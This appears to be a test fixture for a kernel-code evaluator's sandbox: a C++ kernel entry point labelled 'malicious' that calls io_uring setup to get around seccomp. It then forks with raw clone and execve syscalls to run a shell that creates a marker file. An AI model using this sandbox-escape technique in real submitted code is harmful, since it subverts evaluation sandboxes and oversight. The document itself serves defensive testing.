// malicious: bypasses libc and issues raw clone/execve system calls (vfork-style),
// and tries io_uring, which would otherwise bypass seccomp's view of file opens.
#include <kf/kernel.h>
#include <sys/syscall.h>
#include <unistd.h>

extern "C" int kf_forward(kf::Context*, const kf::Tensor*, int, kf::Tensor*, int) {
  syscall(SYS_io_uring_setup, 8, nullptr);
  long pid = syscall(SYS_clone, 0x11 /*SIGCHLD*/, 0, 0, 0, 0);
  if (pid == 0) {
    const char* argv[] = {"/bin/sh", "-c", "touch /tmp/kf_evaluator_pwned_raw", nullptr};
    syscall(SYS_execve, "/bin/sh", argv, nullptr);
    _exit(0);
  }
  return 0;
}
